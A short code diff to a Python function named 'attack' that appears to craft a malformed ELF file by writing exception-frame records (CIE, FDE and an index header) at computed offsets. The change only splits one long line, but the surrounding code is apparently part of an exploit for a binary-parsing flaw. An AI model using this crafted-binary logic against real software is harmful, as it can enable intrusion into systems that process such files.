@@ -18,7 +18,8 @@ def attack(box):
     cie = struct.pack("<II", len(cie) + 4, 0) + cie
     fde, length = frame + len(cie), SIZE - 4 * PAGE
     elf.put(frame, cie + struct.pack("<IIiIB", length, fde + 4 - frame, PAGE - (fde + 8), PAGE, 0))
-    index = struct.pack("<BBBBiIii", 1, 0x1b, 3, 0x3b, frame - (header + 4), 1, PAGE - header, fde - header)
+    index = struct.pack("<BBBBiIii", 1, 0x1b, 3, 0x3b, frame - (header + 4), 1, PAGE - header,
+                        fde - header)
     elf.put(header, index)
     elf.size = SIZE
     elf.segments.clear()
